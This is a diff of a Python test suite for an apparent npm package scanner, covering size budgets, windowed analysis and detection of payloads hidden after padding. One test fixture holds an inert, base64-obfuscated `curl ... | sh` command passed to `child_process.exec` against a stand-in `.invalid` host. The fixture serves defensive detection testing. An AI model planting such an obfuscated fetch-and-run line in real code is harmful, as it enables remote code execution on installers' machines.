@@ -95,7 +95,6 @@ NPM_SHAPES: dict[str, tuple[Callable[[], str], str]] = {
         ),
         budget.TOO_LARGE,
     ),
-    "170,000 calls": (lambda: SHELL + DENSE, budget.TOO_LARGE),
     "160,000 string literals": (
         lambda: SHELL + "var a=[" + ",".join(f'"s{i}"' for i in range(160_000)) + "];\n",
         budget.OVER_BUDGET,
@@ -151,8 +150,55 @@ def test_large_but_ordinary_js_is_analysed_in_full(tmp_path: Path) -> None:
     }
 
 
+def test_dense_entry_point_is_analysed_in_parts_and_monitored(tmp_path: Path) -> None:
+    # 170,000 calls: over the parse budget in 680 KB, so read in windows; every byte met the
+    # rules, so the entry point is listed (monitor), not a warning on its size.
+    pkg = npm_package(tmp_path / "pkg", {"index.js": SHELL + DENSE}, main="index.js")
+    report = result(pkg, tmp_path / "home")
+    [skipped] = report["skippedFiles"]
+    assert skipped["reason"].startswith(budget.IN_PARTS), skipped
+    assert unanalysed(report) == [("index.js", "monitor", None)]
+    shell = {(a["file"], a["line"]) for a in report["alerts"] if a["type"] == "shellAccess"}
+    assert ("index.js", 1) in shell
+
+
+ORDINARY = "".join(
+    f"function f{i}(a, b) {{\n  const c = a.x{i} + b;\n  return g(c, '{i}');\n}}\n"
+    for i in range(40_000)
+)  # 3 MB on 160,000 lines: a published bundle's size, over the parse budget
+
+
+def test_big_bundle_entry_point_is_monitored_not_warned(tmp_path: Path) -> None:
+    pkg = npm_package(tmp_path / "pkg", {"index.js": ORDINARY}, main="index.js")
+    report = result(pkg, tmp_path / "home")
+    assert [f["reason"].split(" (")[0] for f in report["skippedFiles"]] == [budget.IN_PARTS]
+    assert unanalysed(report) == [("index.js", "monitor", None)]
+    assert report["verdict"] == "pass"
+
+
+def test_payload_appended_after_megabytes_of_padding_still_warns(tmp_path: Path) -> None:
+    # Inert (never run; the host is under .invalid): a base64 `curl ... | sh` handed to exec,
+    # past the first window (the 2025 npm worm shipped its payload as a multi-megabyte bundle).
+    payload = (
+        "const cp = require('child_process');\n"
+        "cp.exec(Buffer.from('Y3VybCAtcyBodHRwOi8vcGF5bG9hZC5pbnZhbGlkL3Auc2ggfCBzaA==',"
+        " 'base64').toString());\n"
+    )
+    pkg = npm_package(tmp_path / "pkg", {"index.js": ORDINARY + payload}, main="index.js")
+    report = result(pkg, tmp_path / "home")
+    line = ORDINARY.count("\n") + 2
+    assert report["verdict"] == "block"
+    remote = {
+        (a["file"], a["line"], a["action"])
+        for a in report["alerts"]
+        if a["type"] == "remoteCodeDownload"
+    }
+    assert remote == {("index.js", line, "error")}
+
+
 def test_skipped_install_script_warns_and_other_files_monitor(tmp_path: Path) -> None:
-    big = DENSE
+    # 160,000 string literals: over the rules' node budget, so part of each file is unanalysed.
+    big = "var a=[" + ",".join(f'"s{i}"' for i in range(160_000)) + "];\n"
     pkg = npm_package(
         tmp_path / "pkg",
         {"index.js": "module.exports = 1;\n", "setup.js": big, "lib.js": big},
